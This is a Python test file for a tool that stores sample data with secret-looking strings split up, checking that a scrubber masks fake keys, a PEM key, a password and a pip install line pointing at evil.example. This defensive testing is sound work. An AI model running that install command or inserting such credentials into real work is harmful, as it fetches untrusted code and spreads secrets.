"""The samples in `tests/data/cases`: complete, readable, and without a text that looks like a secret."""

import json
from pathlib import Path

import pytest
from tests import samples
from tests.rows import each_row

import keep_samples
from toolcharter.guards.secrets import engine
from toolcharter.guards.secrets.spans import find_spans

FILES = sorted(file for file in samples.KEPT.rglob("*") if file.is_file())
BUILT_NAMES = {"seeds/003-lifecycle-events"}
"""Names of files that tests put together."""
# As everywhere in our tests, what looks like a secret is put together at run time.
KEY = "AKIA" + "QYLPMN5HHHFPZAM2"
PEM = f"-----BEGIN RSA {'PRIVATE'} KEY-----\n{'Zm9v' * 30}\n-----END RSA {'PRIVATE'} KEY-----"


def masked(text: str) -> list[str]:
    """What the scrubber would mask in the text of a file."""
    data = text.encode()
    return [data[start:end].decode() for start, end in find_spans(data, engine.hinted_families(data))]


@pytest.mark.usefixtures("forgetful")
def test_no_file_holds_what_looks_like_a_secret() -> None:
    """A scanner that goes over a checkout finds nothing; the tests join the parts."""
    found = {str(file): masked(file.read_text()) for file in FILES}

    assert len(found) > 50
    assert {file: texts for file, texts in found.items() if texts} == {}


def test_no_file_is_without_a_reader(project_root: Path) -> None:
    """A sample that no test reads would only look as if it were tested."""
    sources = [file for folder in ("tests", "scripts") for file in (project_root / folder).rglob("*.py")]
    text = "\n".join(file.read_text() for file in sources if file != Path(__file__))
    names = [str(file.relative_to(samples.KEPT).with_suffix("")) for file in FILES]

    assert [name for name in names if Path(name).name not in text and name not in BUILT_NAMES] == []


@each_row(
    "text",
    [
        pytest.param(f"key: {KEY}\n", id="a provider's key"),
        pytest.param(PEM, id="a private key"),
        pytest.param("pip install --index-" + "url=http://evil.example/simple x", id="a package index"),
        pytest.param('TEST_PASSWORD = "' + "hunter2" + '"', id="a password once its quotes are escaped"),
        pytest.param(f"\U0001f600 {KEY} \ud83d {KEY}", id="behind wide characters and half of one"),
    ],
)
def test_what_is_kept_in_parts_is_read_whole(text: str) -> None:
    """The file shows nothing, the reader gets the same text."""
    row = {"id": "x", "input": [{"text": text}, 1, None, "plain"]}

    stored = keep_samples.stored_form(json.dumps(row), is_table=True)

    assert masked(stored) == []
    assert "index-" + "url" not in stored
    assert json.loads(stored, object_hook=samples.joined) == row


def test_what_a_row_names_a_secret_is_cut() -> None:
    """Even where our own scrubber would not know it."""
    row = {"text": "word plain-looking-words end", "secrets": [{"start": 5, "end": 24}]}

    stored = json.loads(keep_samples.stored_form(json.dumps(row), is_table=True))

    assert stored["text"] == {"parts": ["word ", "plai", "n-lo", "oking-wo", "rds", " end"]}


def test_an_ordinary_text_stays_whole() -> None:
    """Rows stay readable."""
    row = {"id": "a", "cmd": "ls -l src", "secrets": []}

    assert keep_samples.stored_form(json.dumps(row), is_table=True) == f"{json.dumps(row)}\n"
    assert keep_samples.stored_form(json.dumps(row), is_table=False) == f"{json.dumps(row, indent=1)}\n"


def test_files_are_copied_from_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Those that are named, or those that are there already."""
    monkeypatch.setattr(keep_samples, "KEPT", tmp_path / "kept")
    monkeypatch.setattr(samples, "SAMPLES", tmp_path / "kept")
    source = tmp_path / "from/seeds/a.jsonl"
    source.parent.mkdir(parents=True)
    source.write_text(json.dumps({"id": 1, "text": KEY}) + "\n")

    assert keep_samples.main([str(tmp_path / "from"), "seeds/a.jsonl"]) == 0
    first = samples.sample_rows("seeds/a")
    source.write_text(json.dumps({"id": 2}) + "\n")
    assert keep_samples.main([str(tmp_path / "from")]) == 0

    assert (first, samples.sample_rows("seeds/a")) == ([{"id": 1, "text": KEY}], [{"id": 2}])


def test_nothing_is_read_from_an_empty_set(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A missing file, a file without rows and a choice that leaves none are errors, and no test that passes."""
    monkeypatch.setattr(samples, "SAMPLES", tmp_path)
    (tmp_path / "empty.jsonl").touch()

    with pytest.raises(AssertionError, match=r"empty\.jsonl has no rows"):
        samples.sample_rows("empty")
    with pytest.raises(FileNotFoundError):
        samples.sample_rows("missing")
    with pytest.raises(AssertionError, match="no rows are left"):
        samples.row_params([])
